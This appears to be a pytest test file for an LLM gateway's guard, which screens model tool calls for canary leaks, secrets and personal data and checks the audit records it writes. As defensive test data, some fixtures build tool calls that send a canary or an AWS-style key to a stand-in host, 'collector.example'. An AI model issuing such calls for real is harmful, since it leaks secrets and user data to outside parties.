"""The model's tool calls are an output channel: screened like content, streamed and not."""

from __future__ import annotations

import hashlib
import json
import pathlib
from collections.abc import Iterator
from typing import Any, ClassVar

import httpx
import openai
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kastell.audit.interface import AuditRecord, EventType
from kastell.guard._asgi import read_body
from kastell.guard.answer_screen import REFUSED_RULE, ToolCall, screen_choice, screen_completion
from kastell.guard.interface import Action, Detection, Direction, ScanContext
from kastell.guard.pipeline import Screener
from kastell.guard.policy import RuleActionPolicy
from kastell.guard.scanners.registry import all_rules, default_scanners
from kastell.guard.stream_exchange import StreamRelay

from ._servers import MockUpstream, serve_in_thread
from .conftest import KEY, Gateway, read_records

AUTH = {"Authorization": f"Bearer {KEY}"}
SECRET = "AKIAIOSFODNN7EXAMPLE"
WEATHER_ARGS = '{"city": "Z\u00fcrich",  "units":"metric", "note": "line\\nbreak"}'
CHAT = {"model": "mock-gpt", "messages": [{"role": "user", "content": "Weather in Zurich?"}]}
TOOLS = [
    {
        "type": "function",
        "function": {
            "name": "get_weather",
            "parameters": {"type": "object", "properties": {"city": {"type": "string"}}},
        },
    }
]


class ToolCallUpstream(MockUpstream):
    """The scripted upstream, plus streamed answers given as whole chunk documents."""

    def __init__(self) -> None:
        super().__init__()
        self.stream_chunks: list[dict[str, Any]] | None = None

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] != "http" or self.stream_chunks is None:
            await super().__call__(scope, receive, send)
            return
        self.script.requests.append(json.loads(await read_body(receive, 1 << 20, None)))
        headers = [(b"content-type", b"text/event-stream")]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        for chunk in self.stream_chunks:
            frame = b"data: " + json.dumps(chunk).encode() + b"\n\n"
            await send({"type": "http.response.body", "body": frame, "more_body": True})
        await send({"type": "http.response.body", "body": b"data: [DONE]\n\n"})


@pytest.fixture
def upstream() -> Iterator[tuple[ToolCallUpstream, str]]:
    mock = ToolCallUpstream()
    with serve_in_thread(mock) as url:
        yield mock, url


def _completion(message: dict[str, Any], finish: str = "tool_calls") -> bytes:
    document = {
        "id": "chatcmpl-tools",
        "object": "chat.completion",
        "created": 1700000000,
        "model": "mock-gpt",
        "choices": [{"index": 0, "message": message, "finish_reason": finish}],
    }
    return json.dumps(document).encode()


def _call(arguments: str, name: str = "get_weather", call_id: str = "call_1") -> dict[str, Any]:
    return {
        "id": call_id,
        "type": "function",
        "function": {"name": name, "arguments": arguments},
    }


def _chunk(delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
    return {
        "id": "chatcmpl-tools",
        "object": "chat.completion.chunk",
        "created": 1700000000,
        "model": "mock-gpt",
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
    }


def _streamed_calls(calls: list[tuple[str, str, str]], content: str = "") -> list[dict[str, Any]]:
    """Chunks of an answer: optional content, then each (id, name, arguments) in 3-char pieces."""
    chunks = [_chunk({"role": "assistant", "content": content or None})]
    for index, (call_id, name, arguments) in enumerate(calls):
        first = {"index": index, "id": call_id, "type": "function"}
        first["function"] = {"name": name, "arguments": ""}
        chunks.append(_chunk({"tool_calls": [first]}))
        for start in range(0, len(arguments), 3):
            piece = {"index": index, "function": {"arguments": arguments[start : start + 3]}}
            chunks.append(_chunk({"tool_calls": [piece]}))
    return [*chunks, _chunk({}, "tool_calls")]


def _post(url: str, **extra: Any) -> httpx.Response:
    headers = {**AUTH, **extra.pop("headers", {})}
    return httpx.post(
        f"{url}/v1/chat/completions", json={**CHAT, **extra}, headers=headers, timeout=10
    )


def _frames(response: httpx.Response) -> list[Any]:
    """The SSE ``data`` documents of a streamed response (``[DONE]`` as a string)."""
    out: list[Any] = []
    for line in response.text.splitlines():
        if line.startswith("data: "):
            data = line[len("data: ") :]
            out.append(data if data == "[DONE]" else json.loads(data))
    return out


def _tool_calls(documents: list[Any]) -> list[dict[str, Any]]:
    """Every tool call the client received in stream deltas, in order."""
    return [
        call
        for document in documents
        if isinstance(document, dict)
        for choice in document.get("choices", [])
        for call in choice["delta"].get("tool_calls", [])
    ]


def _learn_canary(url: str, mock: ToolCallUpstream, session: str) -> str:
    _post(url, headers={"X-Kastell-Session": session})
    system = mock.script.requests[-1]["messages"][0]["content"]
    return next(word for word in system.split() if word.startswith("kst-"))


def _response(records: list[AuditRecord]) -> AuditRecord:
    return [r for r in records if r.event.event_type is EventType.RESPONSE][-1]


def _record_line(call: dict[str, Any]) -> str:
    return json.dumps(call, sort_keys=True, separators=(",", ":"), ensure_ascii=False)


# -- non-streamed answers ------------------------------------------------------------------


def test_canary_in_tool_call_arguments_is_withheld_as_an_incident(
    gateway: Gateway, upstream: tuple[ToolCallUpstream, str], audit_path: pathlib.Path
) -> None:
    mock = upstream[0]
    with gateway() as (url, _):
        canary = _learn_canary(url, mock, "s1")
        arguments = json.dumps({"url": f"https://collector.example/?k={canary}"})
        mock.script.raw_body = _completion(
            {"role": "assistant", "content": "Fetching.", "tool_calls": [_call(arguments)]}
        )
        response = _post(url, headers={"X-Kastell-Session": "s1"})
    choice = response.json()["choices"][0]
    assert response.status_code == 200
    assert choice["finish_reason"] == "content_filter"
    assert choice["message"]["content"] is None
    assert "tool_calls" not in choice["message"]
    assert canary not in response.text
    records = read_records(audit_path)
    assert EventType.CANARY_LEAK in [r.event.event_type for r in records]
    record = _response(records)
    assert record.event.decision is not None
    assert record.event.decision.value == "block"
    assert "guard.output.canary_leak" in record.event.rule_ids
    assert canary not in (record.event.redacted_text or "")


def test_secret_in_legacy_function_call_is_withheld(
    gateway: Gateway, upstream: tuple[ToolCallUpstream, str], audit_path: pathlib.Path
) -> None:
    call = {"name": "store", "arguments": json.dumps({"aws_key": SECRET})}
    upstream[0].script.raw_body = _completion(
        {"role": "assistant", "content": None, "function_call": call}, "function_call"
    )
    with gateway() as (url, _):
        response = _post(url)
    choice = response.json()["choices"][0]
    assert choice["finish_reason"] == "content_filter"
    assert "function_call" not in choice["message"]
    assert SECRET not in response.text
    assert "guard.secret" in _response(read_records(audit_path)).event.rule_ids


def test_benign_tool_call_passes_byte_for_byte(
    gateway: Gateway, upstream: tuple[ToolCallUpstream, str], audit_path: pathlib.Path
) -> None:
    calls = [_call(WEATHER_ARGS), _call('{"city":"Bern"}', call_id="call_2")]
    upstream[0].script.raw_body = _completion(
        {"role": "assistant", "content": None, "tool_calls": calls}
    )
    with gateway() as (url, _):
        response = _post(url)
    message = response.json()["choices"][0]["message"]
    assert response.json()["choices"][0]["finish_reason"] == "tool_calls"
    assert message["tool_calls"] == calls
    assert message["tool_calls"][0]["function"]["arguments"] == WEATHER_ARGS
    record = _response(read_records(audit_path))
    assert record.event.rule_ids == ()
    assert record.event.response_digest is not None
    assert record.event.response_digest.hex == hashlib.sha256(response.content).hexdigest()
    for call in calls:  # the audit text holds each call as sent
        assert _record_line(call) in (record.event.redacted_text or "")


def test_pii_in_arguments_is_redacted_and_stays_json(
    gateway: Gateway, upstream: tuple[ToolCallUpstream, str], audit_path: pathlib.Path
) -> None:
    arguments = '{"to": "jane.doe@example.eu", "subject": "Minutes"}'
    upstream[0].script.raw_body = _completion(
        {"role": "assistant", "content": None, "tool_calls": [_call(arguments, "send_mail")]}
    )
    with gateway() as (url, _):
        response = _post(url)
    sent = response.json()["choices"][0]["message"]["tool_calls"][0]["function"]
    assert sent["arguments"] == '{"to": "[REDACTED]", "subject": "Minutes"}'
    assert json.loads(sent["arguments"]) == {"to": "[REDACTED]", "subject": "Minutes"}
    assert sent["name"] == "send_mail"
    record = _response(read_records(audit_path))
    assert record.event.decision is not None
    assert record.event.decision.value == "redact"
    assert "guard.pii" in record.event.rule_ids
    assert "[REDACTED]" in (record.event.redacted_text or "")
    assert "jane.doe" not in (record.event.redacted_text or "")


def test_redaction_that_would_break_json_blocks(
    gateway: Gateway, upstream: tuple[ToolCallUpstream, str], audit_path: pathlib.Path
) -> None:
    arguments = '{"card": 4111111111111111, "amount": 12}'  # a number: [REDACTED] is no JSON
    upstream[0].script.raw_body = _completion(
        {"role": "assistant", "content": None, "tool_calls": [_call(arguments, "pay")]}
    )
    with gateway() as (url, _):
        response = _post(url)
    choice = response.json()["choices"][0]
    assert choice["finish_reason"] == "content_filter"
    assert "tool_calls" not in choice["message"]
    assert "4111" not in response.text
    record = _response(read_records(audit_path))
    assert record.event.decision is not None
    assert record.event.decision.value == "block"
    assert "guard.pii" in record.event.rule_ids


def test_canary_behind_json_escapes_is_caught(
    gateway: Gateway, upstream: tuple[ToolCallUpstream, str], audit_path: pathlib.Path
) -> None:
    mock = upstream[0]
    with gateway() as (url, _):
        canary = _learn_canary(url, mock, "s2")
        escaped = "".join(f"\\u{ord(c):04x}" for c in canary)
        arguments = '{"q": "' + escaped + '"}'
        assert json.loads(arguments) == {"q": canary}
        mock.script.raw_body = _completion(
            {"role": "assistant", "content": None, "tool_calls": [_call(arguments, "search")]}
        )
        response = _post(url, headers={"X-Kastell-Session": "s2"})
    assert response.json()["choices"][0]["finish_reason"] == "content_filter"
    assert escaped not in response.text
    assert EventType.CANARY_LEAK in [r.event.event_type for r in read_records(audit_path)]


def test_parallel_calls_redact_only_the_call_that_needs_it(
    gateway: Gateway, upstream: tuple[ToolCallUpstream, str]
) -> None:
    calls = [_call('{"city":"Bern"}'), _call('{"to":"jane@example.eu"}', "mail", "call_2")]
    upstream[0].script.raw_body = _completion(
        {"role": "assistant", "content": "Two things.", "tool_calls": calls}
    )
    with gateway() as (url, _):
        response = _post(url)
    sent = response.json()["choices"][0]["message"]["tool_calls"]
    assert [c["function"]["arguments"] for c in sent] == ['{"city":"Bern"}', '{"to":"[REDACTED]"}']
    assert [c["id"] for c in sent] == ["call_1", "call_2"]


# -- streamed answers ----------------------------------------------------------------------


def test_streamed_secret_in_split_arguments_never_reaches_the_client(
    gateway: Gateway, upstream: tuple[ToolCallUpstream, str], audit_path: pathlib.Path
) -> None:
    arguments = json.dumps({"url": f"https://collector.example/?key={SECRET}"})
    upstream[0].stream_chunks = _streamed_calls([("call_1", "http_get", arguments)])
    with gateway() as (url, _):
        response = _post(url, stream=True)
    frames = _frames(response)
    assert "tool_calls" not in response.text
    assert "collector" not in response.text
    assert SECRET[:4] not in response.text
    assert frames[-3]["choices"][0]["finish_reason"] == "content_filter"
    assert frames[-2]["error"]["type"] == "kastell_blocked"
    assert frames[-2]["error"]["code"] == "guard.secret"
    assert frames[-1] == "[DONE]"
    record = _response(read_records(audit_path))
    assert record.event.details["outcome"] == "blocked"
    assert record.event.details["sent_tool_calls"] == 0
    assert "guard.secret" in record.event.rule_ids


def test_streamed_tool_call_arrives_whole_and_the_openai_client_reassembles_it(
    gateway: Gateway, upstream: tuple[ToolCallUpstream, str], audit_path: pathlib.Path
) -> None:
    upstream[0].stream_chunks = _streamed_calls(
        [("call_w", "get_weather", WEATHER_ARGS)], content="Let me check."
    )
    with (
        gateway() as (url, _),
        openai.OpenAI(base_url=f"{url}/v1", api_key=KEY, max_retries=0, timeout=10) as client,
        client.chat.completions.stream(
            model="mock-gpt", messages=CHAT["messages"], tools=TOOLS
        ) as stream,
    ):
        chunks = [event.chunk for event in stream if event.type == "chunk"]
        final = stream.get_final_completion()
    call_chunks = [c for c in chunks if c.choices and c.choices[0].delta.tool_calls]
    assert len(call_chunks) == 1  # one delta carries the whole call
    message = final.choices[0].message
    assert message.content == "Let me check."
    assert message.tool_calls is not None
    (call,) = message.tool_calls
    assert call.id == "call_w"
    assert call.type == "function"
    assert call.function.name == "get_weather"
    assert call.function.arguments == WEATHER_ARGS
    assert final.choices[0].finish_reason == "tool_calls"
    record = _response(read_records(audit_path))
    released = {"index": 0, "id": "call_w", "type": "function"}
    released["function"] = {"name": "get_weather", "arguments": WEATHER_ARGS}
    sent = "Let me check.\n" + _record_line(released)  # the documented form of what was sent
    assert record.event.details["outcome"] == "complete"
    assert record.event.details["sent_tool_calls"] == 1
    assert record.event.details["sent_chars"] == len(sent)
    assert record.event.response_digest is not None
    assert record.event.response_digest.hex == hashlib.sha256(sent.encode()).hexdigest()


def test_streamed_pii_redaction_keeps_the_arguments_json(
    gateway: Gateway, upstream: tuple[ToolCallUpstream, str]
) -> None:
    arguments = '{"to": "jane.doe@example.eu", "subject": "Minutes"}'
    upstream[0].stream_chunks = _streamed_calls([("call_m", "send_mail", arguments)])
    with gateway() as (url, _):
        response = _post(url, stream=True)
    calls = _tool_calls(_frames(response))
    assert len(calls) == 1
    assert calls[0]["function"]["arguments"] == '{"to": "[REDACTED]", "subject": "Minutes"}'
    assert "jane.doe" not in response.text


def test_streamed_redaction_that_would_break_json_blocks(
    gateway: Gateway, upstream: tuple[ToolCallUpstream, str], audit_path: pathlib.Path
) -> None:
    arguments = '{"card": 4111111111111111}'
    upstream[0].stream_chunks = _streamed_calls([("call_p", "pay", arguments)])
    with gateway() as (url, _):
        response = _post(url, stream=True)
    frames = _frames(response)
    assert "4111" not in response.text
    assert frames[-2]["error"]["code"] == "guard.pii"
    assert _response(read_records(audit_path)).event.details["outcome"] == "blocked"


def test_streamed_parallel_calls_first_sent_then_second_blocked(
    gateway: Gateway, upstream: tuple[ToolCallUpstream, str], audit_path: pathlib.Path
) -> None:
    calls = [("call_1", "get_weather", '{"city": "Bern"}')]
    calls.append(("call_2", "store", json.dumps({"key": SECRET})))
    upstream[0].stream_chunks = _streamed_calls(calls)
    with gateway() as (url, _):
        response = _post(url, stream=True)
    released = _tool_calls(_frames(response))
    first = {"index": 0, "id": "call_1", "type": "function"}
    first["function"] = {"name": "get_weather", "arguments": '{"city": "Bern"}'}
    assert released == [first]
    assert SECRET[:4] not in response.text
    record = _response(read_records(audit_path))
    assert record.event.details["outcome"] == "blocked"
    assert record.event.details["sent_tool_calls"] == 1
    sent = "\n" + _record_line(first)
    assert record.event.response_digest is not None
    assert record.event.response_digest.hex == hashlib.sha256(sent.encode()).hexdigest()


# -- the relay and the screens without HTTP ------------------------------------------------

_SCREENER = Screener(default_scanners(), RuleActionPolicy(all_rules()))


def _released(frames: list[bytes]) -> list[dict[str, Any]]:
    return _tool_calls([json.loads(frame[len(b"data: ") :]) for frame in frames])


def test_relay_releases_a_call_when_the_next_index_starts() -> None:
    relay = StreamRelay(_SCREENER, ScanContext(), holdback=8)
    chunks = _streamed_calls([("a", "one", '{"x": 1}'), ("b", "two", '{"y": 2}')])
    start_of_second = next(
        n for n, c in enumerate(chunks) if '"id": "b"' in json.dumps(c["choices"][0]["delta"])
    )
    before = [f for c in chunks[:start_of_second] for f in relay.frames(c)]
    assert _released(before) == []  # nothing of the first call while it may still grow
    at_second = relay.frames(chunks[start_of_second])
    assert [c["function"]["arguments"] for c in _released(at_second)] == ['{"x": 1}']
    rest = [f for c in chunks[start_of_second + 1 :] for f in relay.frames(c)] + relay.flush()
    assert [c["id"] for c in _released(rest)] == ["b"]
    assert relay.result.sent_tool_calls == 2


def test_relay_releases_held_calls_when_upstream_ends_without_finish() -> None:
    relay = StreamRelay(_SCREENER, ScanContext(), holdback=8)
    chunks = _streamed_calls([("a", "one", '{"x": 1}')])[:-1]  # no finish_reason chunk
    frames = [f for c in chunks for f in relay.frames(c)]
    assert _released(frames) == []
    assert [c["id"] for c in _released(relay.flush())] == ["a"]
    assert relay.result.outcome == "complete"


def test_relay_refuses_a_piece_of_a_call_already_sent() -> None:
    relay = StreamRelay(_SCREENER, ScanContext(), holdback=8)
    chunks = _streamed_calls([("a", "one", '{"x": 1}'), ("b", "two", "{}")])[:-1]
    late = _chunk({"tool_calls": [{"index": 0, "function": {"arguments": "extra"}}]})
    frames = [f for c in [*chunks, late] for f in relay.frames(c)]
    assert relay.result.outcome == "blocked"
    assert relay.result.blocked_rule == REFUSED_RULE
    assert b"content_filter" in frames[-2]
    assert [c["id"] for c in _released(frames)] == ["a"]


def test_legacy_function_call_stream_is_held_and_released_whole() -> None:
    relay = StreamRelay(_SCREENER, ScanContext(), holdback=8)
    pieces = ['{"ci', 'ty": ', '"Bern"}']
    chunks = [_chunk({"role": "assistant", "function_call": {"name": "w", "arguments": ""}})]
    chunks += [_chunk({"function_call": {"arguments": p}}) for p in pieces]
    frames = [f for c in chunks for f in relay.frames(c)]
    assert b"function_call" not in b"".join(frames)
    end = relay.frames(_chunk({}, "function_call"))
    deltas = [json.loads(f[len(b"data: ") :])["choices"][0]["delta"] for f in end]
    assert deltas[0] == {"function_call": {"name": "w", "arguments": '{"city": "Bern"}'}}
    assert relay.result.sent_tool_calls == 1


class _CrossingScanner:
    """Reports personal data spanning the join of the first two texts."""

    name: ClassVar[str] = "crossing"
    version: ClassVar[str] = "1"
    directions: ClassVar[frozenset[Direction]] = frozenset({Direction.OUTPUT})
    rules: ClassVar[tuple[Any, ...]] = ()

    def scan(self, text: str, context: ScanContext) -> list[Detection]:
        cut = text.index("\n")
        return [Detection("guard.pii", "spans a join", ((cut - 2, cut + 2),))]


def test_redaction_across_two_texts_blocks() -> None:
    policy = RuleActionPolicy(all_rules())
    screener = Screener([_CrossingScanner()], policy)  # type: ignore[list-item]
    joined = screener.screen_joined(["abcd", "efgh"], Direction.OUTPUT, ScanContext())
    assert joined.action is Action.BLOCK
    assert joined.blocking_rule == "guard.pii"
    verdict = screen_choice(screener, ScanContext(), "abcd", [ToolCall("efgh", "{}")])
    assert verdict.action is Action.BLOCK


def test_redaction_in_a_call_already_sent_blocks() -> None:
    sent = ToolCall("mail", '{"to": "jane@example.eu"}', frozen=True)
    verdict = screen_choice(_SCREENER, ScanContext(), "", [sent, ToolCall("w", "{}")])
    assert verdict.action is Action.BLOCK
    assert verdict.blocking_rule == "guard.pii"
    fresh = screen_choice(_SCREENER, ScanContext(), "", [ToolCall("mail", sent.arguments)])
    assert fresh.action is Action.REDACT
    assert fresh.arguments == ('{"to": "[REDACTED]"}',)


# -- properties over arbitrary upstream chunks ---------------------------------------------

_TEXT = st.sampled_from(["", "{", '"a"', "}", "jane@example.eu", f" {SECRET} ", " x", "\\u0041"])
_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | _TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_TEXT, inner, max_size=3),
    max_leaves=10,
)
_PIECE = st.fixed_dictionaries(
    {"index": st.integers(0, 2) | st.none()},
    optional={
        "id": st.sampled_from(["a", "b"]),
        "type": st.just("function"),
        "function": st.fixed_dictionaries(
            {}, optional={"name": st.sampled_from(["f", "g"]), "arguments": _TEXT}
        ),
    },
)
_DELTA = st.fixed_dictionaries(
    {},
    optional={
        "content": _TEXT | st.none(),
        "tool_calls": st.lists(_PIECE, max_size=2) | st.none(),
        "function_call": st.fixed_dictionaries({}, optional={"name": _TEXT, "arguments": _TEXT}),
    },
)
_STREAM_CHUNK = st.fixed_dictionaries(
    {
        "choices": st.lists(
            st.fixed_dictionaries(
                {
                    "index": st.integers(0, 1),
                    "delta": _DELTA,
                    "finish_reason": st.none() | st.just("tool_calls"),
                }
            ),
            max_size=2,
        )
    }
)


def _received(frames: list[bytes]) -> tuple[dict[int, str], dict[int, list[str]]]:
    """Per choice, the content and the tool-call record lines the frames carried."""
    content: dict[int, str] = {}
    calls: dict[int, list[str]] = {}
    for frame in frames:
        for choice in json.loads(frame[len(b"data: ") :]).get("choices", []):
            delta, index = choice["delta"], choice["index"]
            if isinstance(delta.get("content"), str):
                content[index] = content.get(index, "") + delta["content"]
            lines = [_record_line(c) for c in delta.get("tool_calls") or []]
            if "function_call" in delta:
                lines.append(_record_line(delta["function_call"]))
            calls.setdefault(index, []).extend(lines)
    return content, calls


@settings(max_examples=300, deadline=2000)
@given(st.lists(_STREAM_CHUNK, max_size=8), st.booleans())
def test_relay_records_exactly_what_its_frames_carried(
    chunks: list[dict[str, Any]], flush: bool
) -> None:
    relay = StreamRelay(_SCREENER, ScanContext(), holdback=4)
    frames: list[bytes] = []
    for chunk in chunks:
        frames += relay.frames(chunk)
        if relay.result.outcome == "blocked":
            break
    if flush and relay.result.outcome != "blocked":
        frames += relay.flush()
    content, calls = _received(frames)
    result = relay.result
    for index in {*content, *calls, *result.sent, *result.tool_calls}:
        assert result.sent.get(index, "") == content.get(index, "")
        assert result.tool_calls.get(index, []) == calls.get(index, [])
    assert SECRET not in b"".join(frames).decode()


@settings(max_examples=200, deadline=2000)
@given(st.dictionaries(st.sampled_from(["content", "tool_calls", "function_call"]), _JSON))
def test_screen_completion_total_on_any_message(message: dict[str, Any]) -> None:
    answer = {"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}
    screened = screen_completion(_SCREENER, ScanContext(), answer)
    assert answer["choices"][0]["message"] == message  # the input is not changed in place
    assert len(screened.sent_texts) <= len(screened.choices) <= 1


def test_stream_with_lone_surrogates_is_recorded(
    gateway: Gateway, upstream: tuple[ToolCallUpstream, str], audit_path: pathlib.Path
) -> None:
    upstream[0].stream_chunks = _streamed_calls(
        [("call_s", "echo", '{"text": "\udc00"}')], content="odd \ud83d"
    )
    with gateway() as (url, _):
        response = _post(url, stream=True)
    assert _frames(response)[-1] == "[DONE]"
    record = _response(read_records(audit_path))
    assert record.event.details["outcome"] == "complete"
    assert record.event.details["sent_tool_calls"] == 1
